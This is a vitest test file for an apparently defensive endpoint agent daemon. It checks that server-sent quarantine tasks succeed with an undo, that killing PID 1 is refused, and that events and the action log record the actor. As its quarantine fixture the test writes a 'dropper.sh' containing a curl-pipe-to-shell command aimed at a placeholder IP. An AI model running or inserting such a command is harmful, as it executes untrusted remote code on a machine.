import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AgentReport } from '../hosts/api.js';
import { capturedLogger } from '../server/test-support/capture.js';
import { AgentDaemon } from './daemon.js';
import { readActionLog } from './respond/action-log.js';

describe('agent daemon response tasks', () => {
  it('runs a response action from the server, sends it as an event, and acknowledges it with its undo; a refused one fails', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'bw-daemon-respond-'));
    const root = join(dir, 'root');
    mkdirSync(join(root, 'etc'), { recursive: true });
    writeFileSync(join(root, 'etc/os-release'), 'ID=debian\nVERSION_ID="12"\n');
    const file = join(dir, 'dropper.sh');
    writeFileSync(file, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
    const stateDir = join(dir, 'state');
    const calls: Array<{ what: AgentReport; body: unknown }> = [];
    let pulls = 0;
    const client = {
      hostId: '0123456789abcdef',
      async report(what: AgentReport, body: unknown): Promise<unknown> {
        calls.push({ what, body });
        if (what === 'tasks/pull' && ++pulls === 1) {
          return {
            Tasks: [
              { TaskId: 't-q', Kind: 'respond', CreatedBy: 'alice', Response: { action: 'quarantine', target: file } },
              { TaskId: 't-k', Kind: 'respond', CreatedBy: 'alice', Response: { action: 'kill', target: '1' } },
            ],
          };
        }
        if (what === 'tasks/pull') daemon.stop();
        return what === 'tasks/pull' ? { Tasks: [] } : {};
      },
    };
    const daemon = new AgentDaemon({ client, logger: capturedLogger().logger, agentVersion: '1', root, policyFiles: [], heartbeatMs: 5, intervalMs: 3_600_000, stateDir });
    await daemon.run();

    expect(existsSync(file)).toBe(false);
    const acks = calls.filter((c) => c.what === 'tasks/ack').map((c) => c.body as { taskId: string; status: string; message: string; result?: { undo: { action: string } | null } });
    expect(acks[0]).toMatchObject({ taskId: 't-q', status: 'done', result: { outcome: 'done', undo: { action: 'restore' } } });
    expect(acks[1]).toMatchObject({ taskId: 't-k', status: 'failed', message: expect.stringContaining('init') });
    const events = calls.filter((c) => c.what === 'events').flatMap((c) => c.body as Array<{ event: { dataset: string; action: string }; user: { name: string } }>);
    expect(events).toEqual([expect.objectContaining({ event: expect.objectContaining({ dataset: 'agent.response', action: 'response-quarantine' }), user: { name: 'server:alice' } })]);
    expect((await readActionLog(stateDir)).map((a) => a.actor)).toEqual(['server:alice']);
  });
});
